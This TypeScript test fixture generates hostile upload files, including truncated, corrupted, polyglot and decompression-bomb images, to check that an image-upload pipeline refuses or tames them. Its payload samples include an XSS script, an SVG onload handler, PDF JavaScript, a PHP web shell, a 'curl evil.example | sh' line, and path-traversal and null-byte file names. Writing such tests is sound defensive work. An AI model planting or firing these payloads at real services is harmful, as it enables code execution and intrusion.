import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { maxUploadBytes } from '#contract/media/limits.ts';
import { bombPng, heicPicture, notPictures, phonePhoto, picture, pretenders } from './pictures.ts';

export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** As which file it pretends to come. */
  fileName?: string;
  /** No picture at all: it must be refused. */
  mustRefuse?: boolean;
}

const mb = 1024 * 1024;

/** A small picture of each kind that is taken, with the place where it was made where the kind carries one. */
async function wholePictures(): Promise<Record<string, Buffer>> {
  const place = {
    IFD0: { Make: 'SecretMake' },
    IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '23/1 48/1 0/1', GPSMapDatum: 'SecretDatum' },
  };
  const base = sharp(await picture('png', 320, 240)).withExif(place);
  return {
    jpeg: await phonePhoto(240, 320),
    png: await base.clone().png().toBuffer(),
    webp: await base.clone().webp().toBuffer(),
    avif: await base.clone().avif({ effort: 0 }).toBuffer(),
    heic: await heicPicture(),
  };
}

const fractions = Array.from({ length: 20 }, (_, index) => (index + 0.5) / 20);

function truncated([kind, bytes]: [string, Buffer]): HostileFile[] {
  return fractions.map((fraction) => ({
    name: `${kind} cut off at ${Math.round(fraction * 100)} %`,
    bytes: bytes.subarray(0, Math.floor(bytes.length * fraction)),
  }));
}

/** The same bytes flipped for the same number. */
function flipped([kind, bytes]: [string, Buffer]): HostileFile[] {
  return Array.from({ length: 20 }, (_, index) => {
    const copy = Buffer.from(bytes);
    let state = index * 2654435761 + 97;
    for (let flips = 0; flips < 1 + index; flips += 1) {
      state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
      copy[state % copy.length] = state >>> 24;
    }
    return { name: `${kind} with ${1 + index} bytes changed`, bytes: copy };
  });
}

const payloads: Record<string, Buffer> = {
  HTML: Buffer.from('<!doctype html><script>alert(document.domain)</script>'),
  SVG: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  PDF: Buffer.from(
    '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF',
  ),
  zip: Buffer.from('504b0506000000000000000000000000000000000000', 'hex'),
  PHP: Buffer.from('<?php system($_GET["c"]); ?>'),
  shell: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
};

function polyglots([kind, bytes]: [string, Buffer]): HostileFile[] {
  return Object.entries(payloads).flatMap(([what, payload]) => [
    { name: `${kind} with ${what} behind it`, bytes: Buffer.concat([bytes, payload]) },
    {
      name: `${what} with ${kind} behind it`,
      bytes: Buffer.concat([payload, bytes]),
      mustRefuse: true,
    },
  ]);
}

const magics: Record<string, Buffer> = {
  JPEG: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0]),
  PNG: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  GIF: Buffer.from('GIF89a/*'),
  WebP: Buffer.from('RIFF\xff\xff\xff\x7fWEBPVP8 ', 'latin1'),
  HEIC: Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'),
  AVIF: Buffer.from('\0\0\0\x18ftypavif\0\0\0\0mif1avif', 'latin1'),
  BMP: Buffer.from('BM'),
  TIFF: Buffer.from('II*\0\x08\0\0\0', 'latin1'),
  PSD: Buffer.from('8BPS\0\x01'),
};

function onlyHeads([kind, head]: [string, Buffer]): HostileFile[] {
  return [...Object.entries(payloads), ['nothing', Buffer.alloc(0)] as const].map(
    ([what, payload]) => ({
      name: `${what} that begins as ${kind}`,
      bytes: Buffer.concat([head, payload]),
      mustRefuse: true,
    }),
  );
}

function chunk(type: string, content: Buffer): Buffer {
  const { crc32 } = process.getBuiltinModule('node:zlib');
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  const frame = Buffer.alloc(8 + body.length);
  frame.writeUInt32BE(content.length, 0);
  body.copy(frame, 4);
  frame.writeUInt32BE(crc32(body), 4 + body.length);
  return frame;
}

/** A PNG with these chunks between its head and its pixels. */
async function pngWith(...chunks: Buffer[]): Promise<Buffer> {
  const png = await picture('png', 64, 64);
  const afterHead = 8 + 25;
  return Buffer.concat([png.subarray(0, afterHead), ...chunks, png.subarray(afterHead)]);
}

function withSize(bytes: Buffer, at: number, width: number, height: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt16BE(height, at);
  copy.writeUInt16BE(width, at + 2);
  return copy;
}

/** Small files that want to be large, long or endless once they are read. */
async function bombs(): Promise<HostileFile[]> {
  const jpeg = await picture('jpeg', 64, 64);
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  const named = (text: string, content: Buffer) =>
    Buffer.concat([Buffer.from(`${text}\0\0`, 'latin1'), deflateSync(content)]);
  const frames = await sharp({
    create: { width: 200, height: 200 * 60, channels: 3, background: 'red' },
  })
    .raw()
    .toBuffer();
  const animated = sharp(frames, {
    raw: { width: 200, height: 12_000, channels: 3, pageHeight: 200 },
  });
  return [
    { name: 'PNG of 256 megapixels', bytes: bombPng(), mustRefuse: true },
    { name: 'PNG of 51 megapixels', bytes: bombPng(7_150), mustRefuse: true },
    { name: 'PNG of a million lines', bytes: bombPng(30_000), mustRefuse: true },
    {
      name: 'JPEG that says it is 65,500 x 65,500',
      bytes: withSize(jpeg, frame + 5, 65_500, 65_500),
      mustRefuse: true,
    },
    {
      name: 'JPEG that says it is 0 x 0',
      bytes: withSize(jpeg, frame + 5, 0, 0),
      mustRefuse: true,
    },
    {
      name: 'PNG with a colour profile of 64 MB',
      bytes: await pngWith(chunk('iCCP', named('x', Buffer.alloc(64 * mb)))),
    },
    {
      name: 'PNG with a text of 64 MB',
      bytes: await pngWith(chunk('zTXt', named('Comment', Buffer.alloc(64 * mb, 0x61)))),
    },
    {
      name: 'PNG with 20,000 chunks',
      bytes: await pngWith(...Array<Buffer>(20_000).fill(chunk('tEXt', Buffer.from('a\0b')))),
    },
    {
      name: 'APNG of a thousand frames that are not there',
      bytes: await pngWith(chunk('acTL', Buffer.from([0, 0, 3, 232, 0, 0, 0, 0]))),
    },
    {
      name: 'PNG with a chunk longer than the file',
      bytes: await pngWith(Buffer.from('7fffffff49444154', 'hex')),
      mustRefuse: true,
    },
    { name: 'animated WebP', bytes: await animated.clone().webp({ loop: 0 }).toBuffer() },
    { name: 'animated GIF', bytes: await animated.clone().gif().toBuffer(), mustRefuse: true },
    { name: 'a byte too large', bytes: Buffer.alloc(maxUploadBytes + 1, 0xff), mustRefuse: true },
    {
      name: 'a large file of a JPEG’s head',
      bytes: Buffer.concat([jpeg, Buffer.alloc(maxUploadBytes - mb)]),
    },
    { name: 'nothing', bytes: Buffer.alloc(0), mustRefuse: true },
    { name: 'one byte', bytes: Buffer.from([0xff]), mustRefuse: true },
    {
      name: 'JPEG whose EXIF points at itself',
      bytes: Buffer.concat([
        jpeg.subarray(0, 2),
        Buffer.from(
          'ffe1002245786966000049492a0008000000010069870400010000000800000008000000',
          'hex',
        ),
        jpeg.subarray(2),
      ]),
    },
    {
      name: 'JPEG with 500 comments',
      bytes: Buffer.concat([
        jpeg.subarray(0, 2),
        ...Array<Buffer>(500).fill(
          Buffer.concat([Buffer.from('fffe00ff', 'hex'), Buffer.alloc(253, 0x3c)]),
        ),
        jpeg.subarray(2),
      ]),
    },
    { name: 'TIFF', bytes: await picture('tiff', 64, 64), mustRefuse: true },
    { name: 'GIF', bytes: await picture('gif', 64, 64), mustRefuse: true },
  ];
}

const disguises = [
  'a.svg',
  'a.html',
  'a.php',
  '../../a.jpg',
  'a.jpg\0.html',
  'con',
  '.htaccess',
  'a.jpg;.js',
  `${'a'.repeat(300)}.jpg`,
  'ছবি.jpg',
];

/** More than three hundred files that should never do what they are made for. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const wholes = await wholePictures();
  const each = Object.entries(wholes);
  const jpeg = wholes.jpeg ?? Buffer.alloc(0);
  return [
    ...each.map(([kind, bytes]) => ({ name: `${kind} that says where it was made`, bytes })),
    ...each.flatMap(truncated),
    ...each.flatMap(flipped),
    ...each.flatMap(polyglots),
    ...Object.entries(magics).flatMap(onlyHeads),
    ...Object.entries({ ...notPictures, ...pretenders }).map(([name, bytes]) => ({
      name,
      bytes,
      mustRefuse: true,
    })),
    ...disguises.map((fileName) => ({ name: `JPEG called ${fileName}`, bytes: jpeg, fileName })),
    ...(await bombs()),
  ];
}
